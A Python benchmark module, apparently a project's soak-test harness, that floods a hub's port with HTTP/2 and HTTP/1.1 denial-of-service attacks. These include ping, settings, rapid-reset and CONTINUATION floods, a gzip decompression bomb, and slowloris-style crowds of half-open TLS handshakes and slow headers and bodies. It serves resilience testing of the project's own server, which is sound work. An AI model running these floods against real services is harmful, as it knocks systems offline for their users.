"""Attacks on one port of a hub, by someone without a key, as `make soak` and the tests run them
beside honest clients.

    python -m benchmarks.floods HOST:PORT SECONDS [KIND]

Each connection sends frames of HTTP/2 that cost their receiver more than their sender (pings,
settings, streams that are reset at once, headers without end), requests of HTTP/1.1 that are none,
what expands, or nothing at all; or a hundred at one time send a byte of something now and then.
"""

from __future__ import annotations

import argparse
import gzip
import random
import socket
import ssl
import struct
import time
from collections.abc import Callable, Mapping, Sequence
from contextlib import suppress
from dataclasses import dataclass

from federation import addresses

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
DATA, HEADERS, PRIORITY, RESET, SETTINGS, PING, WINDOW, CONTINUATION = 0, 1, 2, 3, 4, 6, 8, 9
END_OF_HEADERS, END_OF_STREAM = 4, 1
CONNECTION_S, PAUSE_S = 1.0, 0.2


def frame(kind: int, flags: int, stream: int, content: bytes = b"") -> bytes:
    return (
        struct.pack(">I", len(content))[1:]
        + bytes([kind, flags])
        + struct.pack(">I", stream)
        + content
    )


def _headers() -> bytes:
    values = {
        b":method": b"POST",
        b":scheme": b"https",
        b":path": b"/hdh.v1.Enrolment/Enrol",
        b":authority": b"hub",
        b"content-type": b"application/grpc",
        b"te": b"trailers",
    }
    return b"".join(
        b"\0" + bytes([len(name)]) + name + bytes([len(value)]) + value
        for name, value in values.items()
    )


HEAD = _headers()


def _reset(turn: int) -> bytes:
    streams = range(100 * turn + 1, 100 * turn + 101, 2)
    return b"".join(
        frame(HEADERS, END_OF_HEADERS, stream, HEAD) + frame(RESET, 0, stream, struct.pack(">I", 8))
        for stream in streams
    )


def _endless_headers(turn: int) -> bytes:
    more = frame(CONTINUATION, 0, 2 * turn + 1, b"\0\x01x\x40" + b"y" * 64)
    return frame(HEADERS, 0, 2 * turn + 1, HEAD) + 500 * more


def _compressed(turn: int) -> bytes:
    """A call whose message says that it is compressed: 10 MB of zeros in 10 kB."""
    encoding = b"\0\x0dgrpc-encoding\x04gzip"
    message = b"\1" + struct.pack(">I", len(BOMB)) + BOMB
    return frame(HEADERS, END_OF_HEADERS, 2 * turn + 1, HEAD + encoding) + frame(
        DATA, END_OF_STREAM, 2 * turn + 1, message
    )


BOMB = gzip.compress(bytes(10**7))
FLEET = b"POST /v1/fleet/pull-messages HTTP/1.1\r\nHost: h\r\n"
BOMB_REQUEST = FLEET + b"content-encoding: gzip\r\ncontent-length: %d\r\n\r\n%b" % (
    len(BOMB),
    BOMB,
)
UPGRADE = (
    b"GET /v1/fleet/x HTTP/1.1\r\nHost: h\r\nConnection: upgrade\r\nUpgrade: websocket\r\n"
    b"Sec-WebSocket-Version: 13\r\nSec-WebSocket-Key: MDEyMzQ1Njc4OWFiY2RlZg==\r\n\r\n"
)

# What one connection after the other sends, as fast as it is taken.
FAST: Mapping[str, Callable[[int], bytes]] = {
    "pings": lambda _: 200 * frame(PING, 0, 0, bytes(8)),
    "settings": lambda turn: 200 * frame(SETTINGS, 0, 0, struct.pack(">HI", 3, turn % 1000 + 1)),
    "resets": _reset,
    "endless headers": _endless_headers,
    "empty data": lambda _: 500 * frame(DATA, 0, 1),
    "windows": lambda _: 200 * frame(WINDOW, 0, 0, struct.pack(">I", 1)),
    "priorities": lambda turn: 200 * frame(PRIORITY, 0, 2 * turn + 1, bytes(5)),
    "half-open streams": lambda turn: frame(HEADERS, END_OF_HEADERS, 2 * turn + 1, HEAD),
    "compressed calls": _compressed,
    "unknown frames": lambda _: 20 * frame(200, 0, 0, bytes(1000)),
    "garbage": lambda turn: random.Random(turn).randbytes(4000),
    "requests": lambda _: 20 * b"POST /v1/fleet/pull-messages HTTP/1.1\r\nHost: h\r\nA: b\r\n\r\n",
    "no requests": lambda _: b"GET\r\n" * 100,
    "compressed requests": lambda _: BOMB_REQUEST,
    "upgrades": lambda _: UPGRADE,
    "silence": lambda _: b"",
}
# HTTP/1.1, in which a port of gRPC answers nothing.
OF_HTTP1 = ("requests", "no requests", "garbage", "compressed requests", "upgrades")


@dataclass(frozen=True)
class Crowd:
    """Many connections at one time that send `first`, and then `drip` again and again, slowly.
    `protocol`: of TLS; none without a handshake."""

    protocol: str | None
    first: bytes
    drip: bytes


HELLO = b"\x16\x03\x01\x3f\xff\x01\0\x3f\xfb\x03\x03"
START = PREFACE + frame(SETTINGS, 0, 0)
CROWDS: Mapping[str, Crowd] = {
    "idle connections": Crowd("h2", START, b""),
    "half handshakes": Crowd(None, HELLO + bytes(100), b""),
    "slow handshakes": Crowd(None, HELLO + bytes(400), b"\0"),
    "slow frames": Crowd("h2", START + b"\0\x3f\xff\x01\x04\0\0\0\x01", b"\0"),
    "slow pings": Crowd("h2", START, frame(PING, 0, 0, bytes(8))),
    "open streams": Crowd(
        "h2", START + b"".join(frame(HEADERS, 4, 2 * i + 1, HEAD) for i in range(64)), b""
    ),
    "slow headers": Crowd("http/1.1", FLEET, b"x: y\r\n"),
    "slow bodies": Crowd("http/1.1", FLEET + b"content-length: 1000000\r\n\r\n", b"x"),
}
KINDS = (*FAST, *CROWDS)
MEMBERS, DRIP_S = 100, 0.5


@dataclass(frozen=True)
class Target:
    """`source`: the address of the attacker, if it is not that of everyone else."""

    address: str
    is_plain: bool = False
    source: str = ""

    def connect(self, protocol: str | None) -> socket.socket:
        host, port = addresses.split(self.address)
        source = (self.source, 0) if self.source else None
        plain = socket.create_connection((host, port), 5, source)
        if self.is_plain or protocol is None:
            return plain
        context = ssl.SSLContext(ssl.PROTOCOL_TLS_CLIENT)
        context.check_hostname, context.verify_mode = False, ssl.CERT_NONE
        context.set_alpn_protocols([protocol])
        try:
            return context.wrap_socket(plain, server_hostname="localhost")
        except OSError:
            plain.close()
            raise


def attack(target: Target, kind: str, seconds: float) -> None:
    until = time.monotonic() + seconds
    if kind in CROWDS:
        _crowd(target, CROWDS[kind], until)
        return
    is_http2 = kind not in OF_HTTP1
    while time.monotonic() < until:
        with (
            suppress(OSError),
            target.connect("h2" if is_http2 else "http/1.1") as connection,
        ):
            connection.settimeout(2)
            connection.sendall(START if is_http2 else b"")
            _send(connection, FAST[kind], min(until, time.monotonic() + CONNECTION_S))
        time.sleep(PAUSE_S)


def _send(connection: socket.socket, make: Callable[[int], bytes], until: float) -> None:
    turn = 0
    while time.monotonic() < until:
        content = make(turn)
        connection.sendall(content)
        turn += 1
        if not content:
            time.sleep(0.1)


def _crowd(target: Target, crowd: Crowd, until: float) -> None:
    members: list[socket.socket] = []
    while time.monotonic() < until:
        began = time.monotonic()
        while len(members) < MEMBERS and time.monotonic() - began < DRIP_S:
            with suppress(OSError):
                members.append(target.connect(crowd.protocol))
                members[-1].settimeout(0.2)
                members[-1].sendall(crowd.first)
        members = [member for member in members if _drips(member, crowd.drip)]
        time.sleep(max(0.0, began + DRIP_S - time.monotonic()))
    for member in members:
        member.close()


def _drips(member: socket.socket, drip: bytes) -> bool:
    """Whether the connection is still there."""
    try:
        member.sendall(drip)
    except OSError:
        member.close()
        return False
    return True


def main(target: Target, seconds: float, kinds: Sequence[str]) -> None:
    until = time.monotonic() + seconds
    if len(kinds) == 1:
        attack(target, kinds[0], seconds)
    while time.monotonic() < until:
        for kind in kinds:
            attack(target, kind, min(2 * CONNECTION_S, max(0.0, until - time.monotonic())))


if __name__ == "__main__":
    parser = argparse.ArgumentParser(description=__doc__)
    parser.add_argument("address", metavar="HOST:PORT")
    parser.add_argument("seconds", type=float)
    parser.add_argument("kinds", nargs="*", choices=KINDS)
    parser.add_argument("--source", default="", help="the address to attack from")
    parser.add_argument("--plain", action="store_true", help="a port without TLS")
    given = parser.parse_args()
    main(Target(given.address, given.plain, given.source), given.seconds, given.kinds or KINDS)
